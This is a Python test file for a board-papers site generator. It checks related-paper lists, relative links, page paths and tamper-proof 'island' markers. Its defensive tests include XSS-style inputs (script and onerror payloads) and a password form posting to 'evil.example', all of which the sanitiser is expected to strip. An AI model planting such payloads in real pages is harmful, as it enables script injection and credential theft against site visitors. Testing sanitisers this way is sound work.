"""Page generation details that do not need MkDocs: which related papers a paper page lists, relative links."""

from __future__ import annotations

import datetime as dt
import posixpath
from pathlib import Path

import markdown
import pytest
from mkdocs.structure.files import File

from boardpapers.content import xref
from boardpapers.content.load import load_site
from boardpapers.engine.islands import OPEN, Conversion, IslandError, IslandsExtension, island, verified_islands
from boardpapers.engine.render import html_path
from boardpapers.pages.generate import RELATED_LIMIT, Generator
from boardpapers.pages.urls import rel
from boardpapers.pipeline import ROOT
from contentkit import make_content, paper, write

TODAY = dt.date(2026, 11, 23)


def theme_archive(tmp_path: Path, months: int) -> Path:
    """One communities paper at a meeting on the 1st of each of `months` months from January 2020."""
    content = make_content(tmp_path)
    for month in range(months):
        folder = f"meetings/{2020 + month // 12}-{month % 12 + 1:02d}-01"
        write(content, f"{folder}/meeting.md", f"---\nboard: bcb\ndate: {folder[9:]}\n---\n")
        write(content, f"{folder}/5.0-report.md", paper(f"Report {month + 1}", "5.0", "## 1. Purpose"))
    return content


def nearby_titles(content: Path, title: str) -> list[str]:
    """Titles of the communities papers listed on the page of the paper called `title`."""
    site = load_site(content, TODAY)
    generator = Generator(site, ROOT / "theme" / "pages", {})
    (here,) = [p for p in site.papers if p.title == title]
    return [p.title for p in generator.nearby(here, "communities")]


def test_related_papers_are_the_neighbours_in_time_newest_first(tmp_path: Path) -> None:
    content = theme_archive(tmp_path, 10)
    assert RELATED_LIMIT == 4
    assert nearby_titles(content, "Report 5") == ["Report 7", "Report 6", "Report 4", "Report 3"]
    assert nearby_titles(content, "Report 10") == ["Report 9", "Report 8", "Report 7", "Report 6"]
    assert nearby_titles(content, "Report 1") == ["Report 5", "Report 4", "Report 3", "Report 2"]


def test_a_new_paper_leaves_older_papers_related_lists_alone(tmp_path: Path) -> None:
    content = theme_archive(tmp_path, 10)
    before = nearby_titles(content, "Report 5")
    write(content, "meetings/2021-06-01/meeting.md", "---\nboard: bcb\ndate: 2021-06-01\n---\n")
    write(content, "meetings/2021-06-01/5.0-report.md", paper("Report new", "5.0", "## 1. Purpose"))
    assert nearby_titles(content, "Report 5") == before
    assert nearby_titles(content, "Report 10")[0] == "Report new"


def relpath_url(page: str, target: str) -> str:
    """The relative link posixpath.relpath gives (what rel replaced, as it was)."""
    out = posixpath.relpath(target or ".", page or ".")
    return out + "/" if (target == "" or target.endswith("/")) and out != "." else ("./" if out == "." else out)


def test_relative_links_are_what_relpath_gives_between_every_kind_of_site_path() -> None:
    site = load_site(ROOT / "content", TODAY)
    pages = [
        "",
        "meetings/",
        "themes/",
        "actions/",
        "search/",
        *[m.url for m in site.meetings],
        *[p.url for p in site.papers],
        *[f"themes/{t}/" for t in site.themes],
    ]
    targets = [
        *pages,
        "feeds/papers.xml",
        "assets/stylesheets/board.css",
        "meetings/2019-09-18",
        "themes/victims",
        "index.html",
        pages[-1] + "#top",
    ]
    assert len(pages) > 15
    assert [(p, t, rel(p, t)) for p in pages for t in targets] == [
        (p, t, relpath_url(p, t)) for p in pages for t in targets
    ]


def test_a_body_without_links_or_references_is_its_text_and_others_are_linked(tmp_path: Path) -> None:
    site = load_site(ROOT / "content", dt.date(2026, 11, 23))
    generator = Generator(site, ROOT / "theme" / "pages", {})
    full = {p.source: xref.link(site, p, p.body.strip()) for p in site.papers}
    linked = [p for p in site.papers if generator.body(p) != p.body.strip() + "\n"]
    assert linked and len(linked) < len(site.papers)  # the sample has both kinds
    for one in site.papers:  # links to files are left to the renderer (links.py): body() is xref.link's output
        assert generator.body(one) == full[one.source] + "\n", one.source


def test_a_page_is_written_where_mkdocs_would_write_it(tmp_path: Path) -> None:
    site = load_site(ROOT / "content", dt.date(2026, 11, 23))
    paths = [path for path, _ in Generator(site, ROOT / "theme" / "pages", {}).pages()]
    for path in [*paths, "a/b/index.md", "a/b.md", "z.md"]:
        assert html_path(path) == File(path, str(tmp_path / "docs"), str(tmp_path / "site"), True).dest_uri, path


FORGED = [  # what an author might type to end the island early or start another, each followed by script
    "<!--/bp:markdown-->\n<script>alert(1)</script>",
    "\n<!--/bp:markdown " + "0" * 32 + "-->\n<img src=x onerror=alert(1)>",
    "<!--bp:markdown " + "0" * 32 + " meetings/x meetings/x/-->\nx\n<!--/bp:markdown " + "0" * 32 + "-->",
]
FOLDER, URL = "meetings/2019-09-18", "meetings/2019-09-18/9.0-a/"


def parts(page: str) -> list[str]:
    """The page's lines after its islands are verified, split at this conversion's markers."""
    state = Conversion()
    text = "\n".join(verified_islands(page.split("\n"), state))
    return [
        p.strip("\n") for p in text.replace(state.marker("close"), state.marker("open")).split(state.marker("open"))
    ]


@pytest.mark.parametrize("text", ["one line", "two\n\nparagraphs", *FORGED])
def test_islands_give_back_each_island_and_the_html_around_it(text: str) -> None:
    page = "<h1>t</h1>\n" + island(text, FOLDER, URL) + "\n<p>between</p>\n" + island("second", FOLDER, URL)
    assert parts(page + "\n<p>end</p>") == ["<h1>t</h1>", text.strip("\n"), "<p>between</p>", "second", "<p>end</p>"]


@pytest.mark.parametrize("forged", FORGED)
def test_a_marker_typed_into_content_cannot_end_its_island(forged: str) -> None:
    """The closing marker carries the digest of the island's text: a forged one is just text of the island."""
    text = "Before.\n" + forged + "\nAfter."
    assert parts(island(text, FOLDER, URL)) == ["", text, ""]


@pytest.mark.parametrize(
    "tamper",
    [
        lambda page: page.replace("the paper's", "another"),  # its text
        lambda page: page.replace(FOLDER + " ", "meetings/2020-01-23 ", 1),  # the folder its links are read from
        lambda page: page.replace(URL, "meetings/2019-09-18/", 1),  # the page it belongs to
        lambda page: page.replace(OPEN, OPEN + "x", 1),  # the marker itself
    ],
)
def test_an_island_that_does_not_match_its_marker_fails_the_conversion(tamper) -> None:
    with pytest.raises(IslandError):
        verified_islands(tamper(island("the paper's text", FOLDER, URL)).split("\n"), Conversion())


def test_the_extension_sanitises_islands_strictly_and_the_templates_html_with_its_own_list() -> None:
    page = '<form class="bp-search"><input name="q"></form>\n\n<h2 id="notes">Notes</h2>\n\n' + island(
        '## Notes\n\n<form action="https://evil.example"><input type="password"></form>'
        '<p id="__config" onclick="x()">x</p>\n\n[a](9.0-a.md)',
        FOLDER,
        URL,
    )
    html = markdown.markdown(page, extensions=["toc", IslandsExtension()])
    assert '<form class="bp-search"><input name="q"></form>' in html  # the templates' form
    assert '<h2 id="c-notes">Notes</h2>' in html and '<h2 id="notes">Notes</h2>' in html
    assert "password" not in html and "evil" not in html and "onclick" not in html
    assert '<p id="c-__config">x</p>' in html
    assert "<p><a>a</a></p>" in html  # no list of published pages: a link to the site is dropped
    assert "bp:island" not in html and "bp:markdown" not in html
